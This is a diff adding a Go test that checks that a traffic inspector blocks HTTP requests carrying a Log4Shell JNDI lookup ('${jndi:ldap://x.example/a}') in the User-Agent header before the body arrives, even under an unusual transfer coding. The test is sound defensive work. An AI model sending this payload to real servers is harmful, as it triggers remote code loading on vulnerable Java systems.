@@ -899,3 +899,34 @@ func TestThreatDLPInResponses(t *testing.T) {
 		t.Fatalf("event %v", ev)
 	}
 }
+
+// TestThreatHeadJudgedBeforeBody: an attack in the headers of a request whose body is slow
+// (or never comes) is refused on the chunk carrying the head, and reported once; a transfer
+// coding the framer cannot follow ("xchunked") does not hide the head either.
+func TestThreatHeadJudgedBeforeBody(t *testing.T) {
+	view, index := enforceViewOf(t, fmt.Sprintf(threatPolicy, "protect", "", 8080))
+	index().Snapshot().GetSelf().Mode = xdsv1.PolicyMode_POLICY_MODE_PROTECT
+	rep := newFakeReporter()
+	th := newTestThreats(t, rep, nil, nil, nil)
+	th.Apply(index().Snapshot(), view.Load().pol.Set())
+	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, head := range map[string]string{
+		"slow body": "POST /login HTTP/1.1\r\nHost: web\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\nContent-Length: 12\r\n\r\nuser=",
+		"xchunked":  "POST /login HTTP/1.1\r\nHost: web\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\nTransfer-Encoding: xchunked\r\n\r\n",
+	} {
+		o := ThreatInspector(eng, view, index, th)(context.Background(), StreamInfo{Direction: Inbound, Authenticated: true,
+			Source: spiffeid.RequireFromString("spiffe://example.org/ns/shop/sa/web"), DestPort: 8080})
+		err := o.FromClient([]byte(head))
+		var r Replier
+		if !errors.As(err, &r) || !strings.Contains(string(r.Reply()), "403 Forbidden") {
+			t.Fatalf("%s: head with a JNDI lookup forwarded (%v)", name, err)
+		}
+		if ev := rep.next(t, "log4shell"); ev.GetAction() != "block" {
+			t.Fatalf("%s: event %v", name, ev)
+		}
+		o.Close()
+	}
+}
